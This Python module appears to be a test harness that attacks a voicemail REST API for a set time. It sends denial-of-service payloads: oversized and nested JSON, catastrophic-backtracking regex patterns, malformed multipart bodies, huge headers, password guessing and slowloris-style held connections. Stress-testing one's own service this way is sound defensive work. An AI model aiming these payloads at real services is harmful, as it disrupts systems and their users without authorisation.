"""`python -m tests.support.attacks URL SECONDS KIND...`: a hostile client of the REST API, one kind after the other.

Reads a JSON object from its input: `token` of the whole account, `account`, `box` (ids). Prints how many requests of
each kind were answered, or ended by the service.
"""

from __future__ import annotations

import asyncio
import json
import signal
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

CLIENTS = 45
"""Connections at a time, each sending as fast as it is answered: nearly as many as one address may hold."""
SLOW_KINDS = ("10,000 unknown messages", "uploads that are no audio")
"""Each of these requests takes a second or more, so four at a time."""
SILENT = 400


@dataclass(frozen=True)
class Victim:
    """What is attacked."""

    host: str
    port: int
    token: str
    account: str
    box: str

    @property
    def boxes(self) -> str:
        return f"/v2/accounts/{self.account}/vmboxes"

    def request(self, method: str, path: str, body: bytes = b"", content_type: str = "application/json") -> bytes:
        head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nX-Auth-Token: {self.token}\r\nContent-Type: {content_type}\r\n"
        return f"{head}Connection: close\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def _settings(victim: Victim, **values: object) -> bytes:
    return victim.request("PATCH", f"{victim.boxes}/{victim.box}", json.dumps({"data": values}).encode())


def _nested(victim: Victim) -> bytes:
    body = b'{"data":{"x":[' + b"[]," * 300_000 + b"0]}}"
    return victim.request("PUT", "/v2/user_auth", body)


def _numbers(victim: Victim) -> bytes:
    return victim.request("PUT", victim.boxes, b'{"data":{"x":[' + b"0," * 480_000 + b"0]}}")


def _long_numbers(victim: Victim) -> bytes:
    return victim.request("PUT", victim.boxes, b'{"data":{"mailbox":' + b"9" * 900_000 + b"}}")


def _pieces(victim: Victim) -> bytes:
    part = b'Content-Disposition: form-data; name="x"\r\nContent-Type: application/json\r\n\r\n'
    body = b"--b\r\n" + part + b"\r\n-" * 300_000 + b"\r\n--b--\r\n"
    return victim.request("PUT", f"{victim.boxes}/{victim.box}/messages", body, "multipart/mixed; boundary=b")


def _part_heads(victim: Victim) -> bytes:
    body = b"--b\r\n" + b"X-a: b\r\n" * 100_000
    return victim.request("PUT", f"{victim.boxes}/{victim.box}/messages", body, "multipart/mixed; boundary=b")


def _bulk(victim: Victim) -> bytes:
    ids = [f"202611-{number:032x}" for number in range(10_000)]
    body = json.dumps({"data": {"messages": ids, "folder": "saved"}}).encode()
    return victim.request("POST", f"{victim.boxes}/{victim.box}/messages", body)


def _addresses(victim: Victim) -> bytes:
    return _settings(victim, notify_email_addresses=["a@" + "(" * 250, "a@:~\u4e2d\\(" * 20, '"' * 60 + "@b"] * 3)


def _pattern(victim: Victim) -> bytes:
    return _settings(victim, hunt_allow="(a{0,200}){0,200}" * 3, hunt_deny="(x+x+)+y" * 100)


def _filters(victim: Victim) -> bytes:
    query = "&".join(f"filter_k{number}=" + "%5B" * 20 for number in range(400))
    return victim.request("GET", f"{victim.boxes}/{victim.box}/messages?{query}")


def _escapes(victim: Victim) -> bytes:
    """A form, to a route that reads its body before it looks at the token."""
    request = victim.request(
        "DELETE", "/v2/user_auth", b"name=" + b"%41" * 330_000, "application/x-www-form-urlencoded"
    )
    return request.replace(victim.token.encode(), b"x")


def _unknown_keys(victim: Victim) -> bytes:
    return _settings(victim, **{f"mailbo{number}": 1 for number in range(19_000)})


def _number_list(victim: Victim) -> bytes:
    return _settings(victim, aliases="1," * 450_000)


def _address_list(victim: Victim) -> bytes:
    return _settings(victim, notify_email_addresses=["a@b.example," * 1200] * 60)


def _ranges(victim: Victim) -> bytes:
    request = victim.request("GET", f"{victim.boxes}/{victim.box}/messages")
    return request.replace(
        b"Host: x", b"Host: x\r\nAccept: " + b"a/b;q=0.1," * 2500 + b"\r\nRange: bytes=" + b"1-2," * 5000
    )


def _guesses(victim: Victim) -> bytes:
    body = {"data": {"credentials": f"{time.monotonic_ns():032x}", "account_name": "demo"}}
    return victim.request("PUT", "/v2/user_auth", json.dumps(body).encode())


def _audio(victim: Victim) -> bytes:
    body = b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(range(256)) * 4000
    return victim.request("PUT", f"{victim.boxes}/{victim.box}/messages", body, "audio/mpeg")


REQUESTS: dict[str, Callable[[Victim], bytes]] = {
    "nested JSON, no token": _nested,
    "many numbers": _numbers,
    "a number of 900,000 digits": _long_numbers,
    "multipart, near boundaries": _pieces,
    "multipart, part headers": _part_heads,
    "10,000 unknown messages": _bulk,
    "mail addresses": _addresses,
    "patterns": _pattern,
    "escapes in a form, no token": _escapes,
    "unknown keys": _unknown_keys,
    "numbers in one text": _number_list,
    "addresses in one text": _address_list,
    "400 filters": _filters,
    "long headers": _ranges,
    "wrong passwords": _guesses,
    "uploads that are no audio": _audio,
}
SILENT_CONNECTIONS = "silent connections"
KINDS = (*REQUESTS, SILENT_CONNECTIONS)


async def _exchange(victim: Victim, data: bytes) -> None:
    """Send a request in large pieces, and read until the service ends the connection."""
    try:
        reader, writer = await asyncio.open_connection(victim.host, victim.port)
        writer.write(data)
        await reader.read(-1)
        writer.close()
    except OSError:
        pass  # The service need not read all of it.


class Time:
    """How long an attack lasts: so many seconds, or until SIGTERM."""

    def __init__(self, seconds: float) -> None:
        self._until = time.monotonic() + seconds
        self._stopped = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, self._stopped.set)

    @property
    def is_over(self) -> bool:
        return self._stopped.is_set() or time.monotonic() >= self._until

    async def wait(self) -> None:
        with suppress(TimeoutError):
            await asyncio.wait_for(self._stopped.wait(), max(0.0, self._until - time.monotonic()))


async def _repeat(victim: Victim, data: Callable[[Victim], bytes], limit: Time) -> int:
    count = 0
    while not limit.is_over or not count:
        await _exchange(victim, data(victim))
        count += 1
    return count


async def attack(victim: Victim, kind: str, seconds: float) -> int:
    """Attack for so long; return how many requests or connections ended."""
    limit = Time(seconds)
    clients = 4 if kind in SLOW_KINDS else CLIENTS
    if kind != SILENT_CONNECTIONS:
        return sum(await asyncio.gather(*(_repeat(victim, REQUESTS[kind], limit) for _ in range(clients))))
    held = []
    for _ in range(SILENT):
        held.append(await asyncio.open_connection(victim.host, victim.port))
        held[-1][1].write(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
    await limit.wait()
    for _, writer in held:
        writer.close()
    return len(held)


async def main() -> None:
    url, seconds, *kinds = sys.argv[1:]
    parts = urlsplit(url)
    victim = Victim(parts.hostname or "", parts.port or 0, **json.load(sys.stdin))
    for kind in kinds or KINDS:
        print(json.dumps([kind, await attack(victim, kind, float(seconds))]), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
